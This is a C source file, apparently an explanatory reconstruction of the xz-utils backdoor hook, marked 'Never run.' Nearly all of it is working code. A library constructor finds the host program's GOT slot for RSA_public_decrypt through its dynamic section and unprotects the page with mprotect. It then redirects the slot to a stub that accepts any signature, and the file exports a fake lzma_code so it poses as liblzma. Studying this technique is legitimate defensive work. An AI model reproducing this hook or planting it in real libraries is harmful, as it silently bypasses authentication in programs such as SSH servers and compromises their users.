/* The shape of the xz-utils backdoor's hook: a library constructor that walks the loaded
   objects with dl_iterate_phdr, finds the main program's GOT slot for
   RSA_public_decrypt from its dynamic section and overwrites it after making the page
   writable with mprotect. Never run. */
#define _GNU_SOURCE
#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static int hooked_decrypt(int flen, const unsigned char *from, unsigned char *to, void *rsa, int padding) {
	return flen; /* would accept any signature */
}

static int patch(struct dl_phdr_info *info, size_t size, void *data) {
	if (info->dlpi_name[0] != 0) return 0; /* the main program comes first, unnamed */
	const ElfW(Dyn) *dyn = NULL;
	for (int i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_DYNAMIC)
			dyn = (const ElfW(Dyn) *)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
	if (dyn == NULL) return 1;
	const ElfW(Rela) *rel = NULL;
	const ElfW(Sym) *sym = NULL;
	const char *str = NULL;
	size_t relsz = 0;
	for (; dyn->d_tag != DT_NULL; dyn++) {
		switch (dyn->d_tag) {
		case DT_JMPREL: rel = (const ElfW(Rela) *)dyn->d_un.d_ptr; break;
		case DT_PLTRELSZ: relsz = dyn->d_un.d_val; break;
		case DT_SYMTAB: sym = (const ElfW(Sym) *)dyn->d_un.d_ptr; break;
		case DT_STRTAB: str = (const char *)dyn->d_un.d_ptr; break;
		}
	}
	if (rel == NULL || sym == NULL || str == NULL) return 1;
	long page = sysconf(_SC_PAGESIZE);
	for (size_t i = 0; i < relsz / sizeof *rel; i++) {
		const char *name = str + sym[ELF64_R_SYM(rel[i].r_info)].st_name;
		if (strcmp(name, "RSA_public_decrypt") != 0) continue;
		void **slot = (void **)(info->dlpi_addr + rel[i].r_offset);
		void *pg = (void *)((uintptr_t)slot & ~(uintptr_t)(page - 1));
		mprotect(pg, page, PROT_READ | PROT_WRITE);
		*slot = (void *)hooked_decrypt;
		mprotect(pg, page, PROT_READ);
	}
	return 1;
}

__attribute__((constructor)) static void init(void) { dl_iterate_phdr(patch, NULL); }

int lzma_code(void *strm, int action) { return action; }
